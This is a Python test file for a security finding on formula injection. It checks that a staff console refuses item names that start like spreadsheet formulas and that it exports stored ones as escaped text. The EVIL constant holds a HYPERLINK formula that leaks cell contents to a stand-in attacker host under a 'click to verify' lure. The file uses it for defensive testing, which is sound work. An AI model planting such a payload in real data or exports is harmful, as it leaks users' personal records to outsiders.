"""Finding 6 (issue 21): formulas in exports. An item name such as =HYPERLINK(…) is refused by the console's item
editor and import, and texts already in the store reach the bookings and report files as text, never as formulas."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from bot.catalog.editor import field_names, to_text
from knowledge_base.cells import safe_cell
from tests.console_utils import make_staff
from tests.staff_http import StaffBrowser
from tests.test_bookings import book_home_visit_for_mother
from tests.test_item_editor import catalog_csv

EVIL = '=HYPERLINK("http://evil.example/?leak="&D2&E2,"点击核对")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


async def supervisor(server, services) -> StaffBrowser:
    await make_staff(services, "sue", "supervisor")
    browser = StaffBrowser(server)
    await browser.login("sue")
    return browser


async def test_the_item_editor_and_import_refuse_formula_names(server, services):
    sue = await supervisor(server, services)
    code = sorted(services.knowledge().index.items)[0]
    item = await services.backoffice.editor.get(code)
    form = {n: to_text(n, item.get(n)) for n in field_names() if n in item}
    for start in (EVIL, "＝1+1", "@cmd"):
        reply = await sue.post(f"/console/items/{code}", {**form, "name": start, "base_version": str(item.get("version", 0))})
        assert reply.code == 400 and "当作公式" in reply.body.decode()
    assert (await services.store.items.find_one({"code": code}))["name"] == item["name"]
    preview = await services.backoffice.editor.preview_import("目录.csv", catalog_csv([{**item, "name": EVIL}]), "sue")
    assert preview.problems and any("公式" in p.message for p in preview.problems), [str(p) for p in preview.problems]


async def test_exports_write_texts_that_look_like_formulas_as_text(server, services):
    sue = await supervisor(server, services)
    _resident, number = await book_home_visit_for_mother(server, "o_formula")
    # Data from before the check (an old import): the booking carries the poisoned name.
    await services.store.bookings.update_one({"number": number}, {"$set": {"item_name": EVIL}})
    for path in ("/console/bookings/export.xlsx?full=1", "/console/bookings/export.xlsx"):
        reply = await sue.get(path)
        assert reply.code == 200 and reply.headers["Content-Disposition"].startswith("attachment;")
        sheet = load_workbook(io.BytesIO(reply.body)).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert "'" + EVIL in [c.value for c in cells]
    reply = await sue.get("/console/bookings/export.csv")
    rows = list(csv.reader(io.StringIO(reply.body.decode("utf-8-sig"))))
    assert ["'" + EVIL] == [v for row in rows for v in row if "HYPERLINK" in v]
    report = await sue.get("/console/report.xlsx")
    assert report.code == 200
    for ws in load_workbook(io.BytesIO(report.body)).worksheets:
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_every_formula_start_is_neutralised_and_plain_text_is_not():
    assert all(safe_cell(s).startswith("'") for s in STARTS)
    for plain in ("低保申请", "-", "13912345678", 42, -3, None, "张三 = 李四"):
        assert safe_cell(plain) == plain
